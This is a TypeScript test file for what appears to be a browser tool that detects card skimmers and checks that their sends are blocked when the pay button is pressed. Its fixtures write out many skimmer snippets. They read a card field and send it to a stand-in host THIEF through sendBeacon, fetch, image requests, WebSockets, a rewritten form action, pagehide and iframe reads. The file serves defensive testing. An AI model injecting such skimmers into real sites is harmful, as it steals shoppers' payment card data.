import { deep } from '@tillwatch/testbed/depth'
import { describe, expect, it } from 'vitest'
import { together } from '../together.ts'
import { browser, shareBrowser } from './shared-browser.ts'
import { cardForm, type Watched, watchPage } from './watch-page.ts'

shareBrowser()

const pan = `document.getElementById('card').value`
const beacon = `navigator.sendBeacon('http://THIEF/c', ${pan})`
const form = `document.getElementById('f')`
const button = `document.querySelector('button')`
/** Listens, and acts only on what happens at the button, or on Enter. */
const on = (target: string, type: string, work: string) =>
  `${target}.addEventListener('${type}', function take(event) {
    if (event.key ? event.key !== 'Enter' : /^(click|pointer|mouse)/.test(event.type) && !event.target.closest('button')) return
    ${work} }, true)`

/** Skimmers of which none does what another waits for: to read the form as FormData would be the event that one of them needs. */
const waiting: Record<string, string> = {
  'the submission': on(
    form,
    'submit',
    `navigator.sendBeacon('http://THIEF/c', new URLSearchParams([...this.elements].map((one) => [one.name, one.value])))`,
  ),
  'a click on the button': on(button, 'click', beacon),
  'clicks anywhere': on('document', 'click', beacon),
  'a pointer that goes down': on('document', 'pointerdown', beacon),
  'a mouse button that goes down': on('document.body', 'mousedown', beacon),
  'the Enter key': on('document', 'keydown', beacon),
  'the data of the form': on(form, 'formdata', `fetch('http://THIEF/c', { method: 'POST', body: btoa(event.formData.get('cardnumber')) })`),
  'a click, and sends later': on(button, 'click', `const n = ${pan}; setTimeout(() => { new Image().src = 'http://THIEF/c?' + n }, 1500)`),
  'a click, with a socket that is open': `const ws = new WebSocket('ws://THIEF/w'); ${on(button, 'click', `ws.send(${pan})`)}`,
  'a click, and opens a socket': on(button, 'click', `new WebSocket('ws://THIEF/c?' + ${pan})`),
}

describe('a skimmer that waits for the pay button is found with its script, though nothing reaches it', () => {
  const reached = ({ atThief, atShop }: Watched) => [...atThief, ...atShop].filter((line) => /\/c|\/pay|4242/.test(line))

  it.each(together(waiting))('%s', async (_names, skimmers) => {
    const watched = await watchPage(browser, { skimmers: skimmers.map(([, skimmer]) => skimmer) })
    const told = skimmers.map(([name], at) => {
      const { host, scripts } = watched.each[at]!
      const sighting = watched.canary.sightings.find((one) => one.value === 'card' && one.host === host)
      return { name, blocked: sighting?.blocked, phase: sighting?.phase, isNamed: scripts.has(sighting?.scriptId ?? '') }
    })
    expect(told).toEqual(skimmers.map(([name]) => ({ name, blocked: true, phase: 'press', isNamed: true })))
    expect(reached(watched)).toEqual([])
    expect(watched.capture.outcome.status).toBe('complete')
  })

  it.runIf(deep)('the submission, and turns the form', async () => {
    const watched = await watchPage(browser, { skimmer: on(form, 'submit', `this.action = 'http://THIEF/c'`) })
    const sighting = watched.canary.sightings.find((one) => one.value === 'card' && one.host === watched.thiefHost)
    expect(sighting).toMatchObject({ blocked: true, phase: 'press' })
    expect(watched.thieves).toContain(sighting?.scriptId)
    expect(reached(watched)).toEqual([])
    expect(watched.capture.outcome.status).toBe('complete')
  })

  it('the submission, and sends as the page is left', async () => {
    const later = `addEventListener('pagehide', () => navigator.sendBeacon('http://THIEF/c', n))`
    const watched = await watchPage(browser, { skimmer: on(form, 'submit', `const n = ${pan}; ${later}`) })
    const sighting = watched.canary.sightings.find((one) => one.value === 'card' && one.host === watched.thiefHost)
    expect(sighting).toMatchObject({ blocked: true, phase: 'leave' })
    expect(reached(watched)).toEqual([])
    expect(watched.capture.outcome.status).toBe('complete')
  })

  it('the submission of a form that the browser would refuse, as a box is not ticked', async () => {
    const body = cardForm.replace('<button', '<label><input type=checkbox required> I agree</label><button')
    const { canary, thiefHost } = await watchPage(browser, { skimmer: on(form, 'submit', beacon), body })
    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, phase: 'press' }))
  })
  it('the submission of a form without a button', async () => {
    const body = cardForm.replace('<button>Pay</button>', '')
    const { canary, thiefHost, behaviours } = await watchPage(browser, { skimmer: on(form, 'submit', beacon), body })
    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, phase: 'press' }))
    expect(behaviours.filter(({ kind }) => kind === 'sends-form')).toEqual([])
  })
  it('a click on the button that pays, among others, beside fields in no form', async () => {
    const body = `<main><label>Card number <input id=card autocomplete=cc-number></label><button>Apply coupon</button>
      <div role=button id=go>Jetzt kaufen</div><button>Pay with PayPal</button></main>`
    const { canary, thiefHost } = await watchPage(browser, {
      skimmer: on(`document.getElementById('go')`, 'click', `fetch('http://THIEF/c?' + ${pan})`).replace(
        `closest('button')`,
        `closest('#go')`,
      ),
      body,
    })
    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, phase: 'press' }))
  })
  it('a click on the button outside of the frame that takes the card', async () => {
    const body = `<iframe srcdoc="<label>Card number <input id=card autocomplete=cc-number></label>"></iframe><button>Pay</button>`
    const read = `document.querySelector('iframe').contentDocument.getElementById('card').value`
    const { canary, thiefHost } = await watchPage(browser, {
      skimmer: on(button, 'click', `navigator.sendBeacon('http://THIEF/c', ${read})`),
      body,
    })
    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, phase: 'press' }))
  })
  it('a tap on a phone', async () => {
    const { canary, thiefHost } = await watchPage(browser, { skimmer: on(button, 'touchstart', beacon) }, { profile: 'mobile' })
    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, phase: 'press' }))
  })
})

describe('the press', () => {
  it('changes nothing of what was read before it', async () => {
    const shop = `const done = (event) => { event.preventDefault(); alert('Sorry'); open('/help'); document.title = 'Failed'
      history.pushState(0, '', '/failed'); document.body.innerHTML = '<h1>Payment failed</h1><form action="/again"><input autocomplete=cc-number></form>' }
      document.getElementById('f').addEventListener('submit', done)`
    const still = await watchPage(browser, { shop: '' })
    const { capture } = await watchPage(browser, { shop })
    expect(capture.outcome).toMatchObject({ status: 'complete', issues: [] })
    const facts = ({ page, forms, fields, frames }: typeof capture) => [
      page.title,
      page.text,
      page.historyChanges,
      forms.length,
      fields.length,
      frames.length,
    ]
    expect(facts(capture)).toEqual(facts(still.capture))
  })
  it('is not made, and nothing is typed, where the visit was led to a page that may not be touched', async () => {
    const asked: string[] = []
    const mayTouch = (url: string) => asked.push(url) < 0
    const { capture } = await watchPage(browser, { skimmer: on('document', 'click', beacon) }, { mayTouch })
    expect(asked.length).toBeGreaterThan(0)
    expect(capture.request.depth).toBe('passive')
    const { host } = new URL(capture.page.finalUrl)
    const cause = { code: 'led-elsewhere-untouched', values: { host } }
    expect(capture.outcome).toMatchObject({ status: 'partial', code: 'led-elsewhere', cause })
    expect(capture.canary?.typedInto ?? []).toEqual([])
    expect(capture.egress.filter(({ phase }) => phase === 'press')).toEqual([])
  })
  it('is not made where the visit was led away while cookies were accepted, which is told as what was done', async () => {
    const body = `${cardForm}<button type=button id=accept-cookies>Accept all cookies</button>`
    let asked = 0
    const { capture } = await watchPage(browser, { skimmer: '', body }, { mayTouch: () => asked++ === 0 })
    expect(capture.outcome).toMatchObject({ status: 'partial', code: 'led-elsewhere' })
    expect(capture.outcome.cause?.code).toBe('led-elsewhere-consented')
    expect(capture.canary?.typedInto ?? []).toEqual([])
  })
  it('is not made in a passive visit, nor where no card was typed', async () => {
    const skimmer = on('document', 'click', beacon)
    const passive = await watchPage(browser, { skimmer }, { depth: 'passive' })
    const cardless = await watchPage(browser, { skimmer, body: '<form><input name=email type=email><button>Pay</button></form>' })
    for (const { capture } of [passive, cardless]) {
      expect(capture.egress.filter(({ verdict, phase }) => verdict === 'network-cut' || phase === 'press')).toEqual([])
      expect(capture.behaviours.filter(({ phase }) => phase === 'press')).toEqual([])
    }
  })
})
